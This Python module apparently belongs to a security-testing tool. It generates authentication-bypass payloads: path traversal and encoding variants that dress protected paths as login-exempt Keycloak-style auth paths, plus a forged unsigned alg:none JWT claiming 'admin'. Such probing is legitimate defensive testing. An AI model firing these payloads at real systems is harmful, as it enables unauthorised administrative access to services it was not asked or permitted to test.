"""What an attacker would write: paths dressed up as ones that need no login, and a token that nobody signed.

Pure. Must not know about: how they are sent, what an answer means.
"""

from __future__ import annotations

import base64
import json
from typing import Any


def tricks(target: str, realm: str, prefix: str) -> list[str]:
    """Ways of writing a service's path so that it looks like one that needs no login."""
    bare = target.lstrip("/")
    exempt = (f"/auth/realms/{realm}", "/auth/resources", prefix)
    up = {one: "/.." * one.count("/") for one in exempt}
    return [
        "/authx",
        f"/auth{target}",
        f"/authx/..{target}",
        f"/auth%2f..{target}",
        f"/auth%2f..%2f{bare}",
        f"/auth;x/..{target}",
        f"/AUTH/realms/{realm}/../../..{target}",
        f"/{prefix.lstrip('/')}x",
        f"{prefix}%2f..%2f{bare}",
        *(f"{one}{up[one]}{target}" for one in exempt),
        *(f"{one}{up[one].replace('..', '%2e%2e')}{target}" for one in exempt),
        *(f"{one}{up[one].replace('/', '%2f')}%2f{bare}" for one in exempt),
        *(f"{one}{up[one].replace('/', '%5c')}%5c{bare}" for one in exempt),
        *(f"{one}{up[one].replace('/', '%252f')}%252f{bare}" for one in exempt),
        *(f"{one}{up[one].replace('..', '..;')}{target}" for one in exempt),
        *(f"{one}/x{up[one]}/..{target}" for one in exempt),
        *(f"/{one}{up[one]}{target}" for one in exempt),
        *(f"{one}\\..\\..\\..\\{bare}" for one in exempt),
        f"{target}?/auth/realms/{realm}/",
        f"{target}#/auth/realms/{realm}/",
        f"{target};/auth/realms/{realm}/",
        f"{target}%23/auth/realms/{realm}/",
        f"{target}%3f/auth/realms/{realm}/",
    ]


def unsigned_token(issuer: str) -> str:
    """A token that nobody signed."""
    parts = ({"alg": "none", "typ": "JWT"}, {"iss": issuer, "sub": "admin", "aud": "account", "exp": 4102444800})
    return ".".join(base64.urlsafe_b64encode(json.dumps(one).encode()).rstrip(b"=").decode() for one in parts) + "."


def claims_of(token: str) -> dict[str, Any]:
    """What a token says, unchecked; nothing where it is none."""
    try:
        middle = token.split(".")[1]
        found = json.loads(base64.urlsafe_b64decode(middle + "=" * (-len(middle) % 4)))
    except (IndexError, ValueError):
        return {}
    return found if isinstance(found, dict) else {}
